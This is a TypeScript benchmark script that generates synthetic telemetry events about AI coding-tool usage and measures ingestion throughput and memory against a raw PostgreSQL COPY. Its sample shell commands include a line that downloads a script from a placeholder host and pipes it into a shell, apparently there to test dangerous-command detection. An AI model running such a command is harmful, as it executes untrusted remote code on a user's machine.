// npm run bench:ingest — event ingestion throughput against the physical limit, raw COPY.
//
// Generates BENCH_EVENTS (default 1,000,000) telemetry events as NDJSON into a temporary file and
// ingests it IN-PROCESS through the same pipeline as POST /api/v1/uploads (ingestUpload, fed from
// a file read stream: gunzip/detection/parsing/validation/privacy/classification/COPY/INSERT …
// ON CONFLICT/rollups), against a fresh embedded PostgreSQL (or DATABASE_URL). Then, in the same
// run, the stored rows are COPYed raw into an identical table (same partitioning, keys, indexes).
// Last line: `RESULT ingest_vs_copy=<throughput ratio> rss_mb=<peak RSS while ingesting> events_per_s=<n>`.
// Targets: ratio ≥ 0.5, RSS ≤ 300 MB. BENCH_FILE=<path> ingests an existing NDJSON file instead.
import { createReadStream, createWriteStream } from 'node:fs';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { once } from 'node:events';
import { pipeline } from 'node:stream/promises';
import { ensurePrismaClient } from '../lib/prisma-client.ts';

ensurePrismaClient();
const EVENTS = Number(process.env.BENCH_EVENTS ?? 1_000_000);

const { openDatabase, openEmbeddedDatabase } = await import('../../lib/db/embedded.ts');
const { migrateDatabase } = await import('../../lib/db/migrate.ts');

async function generate(file: string, events: number): Promise<void> {
  const out = createWriteStream(file);
  const teams = ['payments', 'web', 'platform', 'mobile', 'data'];
  const features = ['specs', 'hooks', 'steering', 'mcp', 'chat', 'autopilot', 'supervised'];
  const commands = ['npm test', 'git status', 'npm run build', 'git diff', 'npm i && curl -s https://get.example.com/i.sh | sh', 'rm -rf dist', 'make deploy', 'ls -la'];
  const os = ['macos', 'linux', 'windows'];
  const start = Date.UTC(2026, 10, 1);
  let buffer = '';
  for (let i = 0; i < events; i++) {
    const r = i % 20;
    const base = {
      id: `bench-${i}`,
      timestamp: new Date(start + Math.floor((i / events) * 25 * 86_400_000)).toISOString(),
      user: `user${i % 500}@example.com`,
      team: teams[i % teams.length],
      client: i % 3 ? 'kiro-ide' : 'kiro-cli',
      clientVersion: '0.9.2',
      os: os[i % 3],
    };
    const event =
      r < 12
        ? { ...base, kind: 'feature_used', feature: features[i % features.length], name: `${features[i % features.length]}.used` }
        : r < 15
          ? { ...base, kind: 'performance', name: 'agent.response_latency', durationMs: 200 + ((i * 7919) % 5000) }
          : r < 17
            ? { ...base, kind: 'error', name: 'agent.error', message: i % 50 === 0 ? 'Failed to read /Users/dev/src/app/.env' : 'Model request timed out' }
            : { ...base, kind: 'command_executed', name: 'shell', command: commands[i % commands.length], decision: i % 2 ? 'auto' : 'approved' };
    buffer += `${JSON.stringify(event)}\n`;
    if (buffer.length > 1 << 20) {
      if (!out.write(buffer)) await once(out, 'drain');
      buffer = '';
    }
  }
  out.end(buffer);
  await once(out, 'finish');
}

async function main(): Promise<void> {
  const tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'pilotlight-bench-ingest-'));
  await fs.chmod(tmp, 0o755);
  const handle = process.env.DATABASE_URL ? await openDatabase() : await openEmbeddedDatabase(path.join(tmp, 'data'));
  process.env.DATABASE_URL = handle.url;
  await migrateDatabase(handle.url);
  const { getPool, closeDatabaseConnections } = await import('../../lib/db/client.ts');
  const { ingestUpload } = await import('../../lib/ingest/pipeline.ts');
  const { ingestLimits } = await import('../../lib/ingest/limits.ts');
  const { from: copyFrom, to: copyTo } = await import('pg-copy-streams');
  const pool = getPool();
  try {
    const file = process.env.BENCH_FILE ?? path.join(tmp, 'events.ndjson');
    if (!process.env.BENCH_FILE) {
      const t = Date.now();
      await generate(file, EVENTS);
      console.log(`generated ${EVENTS.toLocaleString('en')} events (${((await fs.stat(file)).size / 1e6).toFixed(0)} MB) in ${((Date.now() - t) / 1000).toFixed(1)} s`);
    }
    const size = (await fs.stat(file)).size;
    const org = await pool.query<{ id: string }>(`INSERT INTO organization (name) VALUES ('Bench ' || gen_random_uuid()) RETURNING id`);
    const orgId = org.rows[0]!.id;
    const user = await pool.query<{ id: string }>(`INSERT INTO app_user (email) VALUES ('bench-' || gen_random_uuid() || '@example.com') RETURNING id`);
    await pool.query(`INSERT INTO membership (org_id, user_id, role) VALUES ($1, $2, 'OWNER')`, [orgId, user.rows[0]!.id]);
    for (const slug of ['payments', 'web', 'platform', 'mobile', 'data']) {
      await pool.query(`INSERT INTO team (org_id, name, slug, environment) VALUES ($1, $2, $2, 'development')`, [orgId, slug]);
    }
    const actor = { kind: 'user' as const, userId: user.rows[0]!.id, orgId, role: 'OWNER' as const, scopes: ['events:write' as const], label: 'bench' };

    // Ingest, sampling RSS.
    global.gc?.();
    const rssBefore = process.memoryUsage().rss;
    let peakRss = rssBefore;
    const sampler = setInterval(() => (peakRss = Math.max(peakRss, process.memoryUsage().rss)), 50);
    const t0 = performance.now();
    // A file over the 512 MiB default cap (the 1 GB run) raises the cap for this run only.
    const defaults = ingestLimits();
    const limits = { ...defaults, maxUploadBytes: Math.max(defaults.maxUploadBytes, size), maxDecompressedBytes: Math.max(defaults.maxDecompressedBytes, size) };
    const result = await ingestUpload(actor, { body: createReadStream(file, { highWaterMark: 256 * 1024 }), fileName: path.basename(file), limits });
    const ingestS = (performance.now() - t0) / 1000;
    clearInterval(sampler);
    peakRss = Math.max(peakRss, process.memoryUsage().rss);
    const stored = result.accepted;

    // The same rows, raw: COPY out, then COPY into an identical table (timed).
    await pool.query('DROP TABLE IF EXISTS bench_copy');
    await pool.query(`CREATE TABLE bench_copy (LIKE telemetry_event INCLUDING DEFAULTS INCLUDING CONSTRAINTS) PARTITION BY RANGE (ts)`);
    await pool.query('ALTER TABLE bench_copy ADD PRIMARY KEY (org_id, event_id, ts)');
    await pool.query('CREATE INDEX ON bench_copy (org_id, upload_id)');
    await pool.query('CREATE INDEX ON bench_copy (org_id, team_id, ts)');
    const months = await pool.query<{ m: string }>(`SELECT DISTINCT to_char(date_trunc('month', ts, 'UTC'), 'YYYY-MM-DD') AS m FROM telemetry_event WHERE org_id = $1`, [orgId]);
    for (const { m } of months.rows) {
      await pool.query(`CREATE TABLE bench_copy_${m.slice(0, 7).replace('-', '')} PARTITION OF bench_copy FOR VALUES FROM ('${m} 00:00:00+00') TO (('${m}'::date + interval '1 month')::timestamp AT TIME ZONE 'UTC')`);
    }
    const rowsFile = path.join(tmp, 'rows.copy');
    {
      const client = await pool.connect();
      try {
        await pipeline(client.query(copyTo(`COPY (SELECT * FROM telemetry_event WHERE org_id = '${orgId}') TO STDOUT`)), createWriteStream(rowsFile));
      } finally {
        client.release();
      }
    }
    const client = await pool.connect();
    let copyS: number;
    try {
      const t1 = performance.now();
      await client.query('BEGIN');
      await pipeline(createReadStream(rowsFile, { highWaterMark: 256 * 1024 }), client.query(copyFrom('COPY bench_copy FROM STDIN')));
      await client.query('COMMIT');
      copyS = (performance.now() - t1) / 1000;
    } finally {
      client.release();
    }
    await pool.query('DROP TABLE bench_copy');

    const ingestRate = stored / ingestS;
    const copyRate = stored / copyS;
    const rssMb = peakRss / 1024 / 1024;
    console.log('');
    console.log('| path | rows | seconds | rows/s |');
    console.log('|---|---|---|---|');
    console.log(`| pipeline (in-process ingestUpload from a file stream, ${(size / 1e6).toFixed(0)} MB NDJSON) | ${stored} | ${ingestS.toFixed(2)} | ${Math.round(ingestRate)} |`);
    console.log(`| raw COPY of the same rows into an identical table | ${stored} | ${copyS.toFixed(2)} | ${Math.round(copyRate)} |`);
    console.log(`rss before ingesting: ${Math.round(rssBefore / 1024 / 1024)} MB (the runtime, the database client and the modules loaded), peak while ingesting: ${Math.round(rssMb)} MB`);
    console.log(`accepted=${result.accepted} duplicates=${result.duplicates} rejected=${result.rejected} dangerous=${result.dangerousCommands} privacy=${result.privacyFindings}`);
    console.log(`RESULT ingest_vs_copy=${(ingestRate / copyRate).toFixed(2)} rss_mb=${Math.round(rssMb)} events_per_s=${Math.round(ingestRate)}`);
  } finally {
    await closeDatabaseConnections();
    await handle.stop();
    if (handle.clusterDir) await fs.rm(handle.clusterDir, { recursive: true, force: true });
    await fs.rm(tmp, { recursive: true, force: true });
  }
}

await main();
